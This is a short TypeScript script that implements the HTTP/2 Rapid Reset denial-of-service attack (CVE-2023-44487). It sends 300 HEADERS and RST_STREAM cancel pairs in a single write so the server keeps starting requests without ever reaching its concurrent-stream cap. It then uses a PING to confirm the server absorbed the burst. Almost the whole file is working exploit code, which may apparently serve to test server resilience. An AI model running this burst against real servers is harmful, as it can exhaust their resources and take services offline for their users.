// Rapid Reset (CVE-2023-44487): open a stream, cancel it at once,
// and again, hundreds of times in one write. Each HEADERS makes the
// server start a request; each RST_STREAM closes the stream before
// it counts toward MAX_CONCURRENT_STREAMS. The cap never trips.
import { Connection } from './h2-client.ts';

const PAIRS = 300; // HEADERS + RST_STREAM pairs, all in one write

export default async function main(server: URL) {
  // No frame log: 600 frames would bury everything else.
  const connection = await Connection.connect(server, { log: false });
  connection.onGoaway = (lastStreamId, code) =>
    console.log(`← GOAWAY last stream ${lastStreamId}, error code 0x${code.toString(16)}`);
  for (let i = 0; i < PAIRS; i++) {
    const { streamId } = connection.request(`/report?n=${i % 10}`);
    connection.cancel(streamId);
  }
  console.log(`→ ${PAIRS} × (HEADERS + RST_STREAM CANCEL) in one write`);
  // A PING after the burst: its ACK means the server read it all.
  if (await connection.ping()) {
    console.log('← PING ACK: the server took every stream and every reset');
    await connection.close();
  } else console.log('the server closed the connection');
}
